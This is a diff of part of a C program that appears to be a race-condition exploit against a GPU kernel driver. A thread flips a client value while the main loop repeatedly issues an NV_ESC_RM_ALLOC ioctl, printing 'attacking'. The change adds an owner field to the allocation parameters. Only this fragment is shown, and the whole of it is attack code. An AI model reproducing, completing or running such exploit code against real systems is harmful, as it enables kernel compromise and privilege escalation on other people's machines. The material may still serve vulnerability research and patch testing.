@@ -32,14 +32,14 @@ int main(void)
 {
     uint32_t client = 0;
     int fd = open_client(&client);
-    struct rm_memory memory = {.size = KIB_512};
+    struct rm_memory memory = {.owner = OWNER, .size = KIB_512};
     pthread_t thread;
 
     say("attacking");
     pthread_create(&thread, NULL, flip, &client);
     for (int i = 0; i < ATTEMPTS; i++) {
         shot = (struct rm_alloc){.parent = DEVICE, .params = (uintptr_t)&memory};
-        memory = (struct rm_memory){.size = KIB_512};
+        memory = (struct rm_memory){.owner = OWNER, .size = KIB_512};
         if (ioctl(fd, RM_CMD(NV_ESC_RM_ALLOC, sizeof(shot)), &shot)) {
             over = 1;
             say("refused");
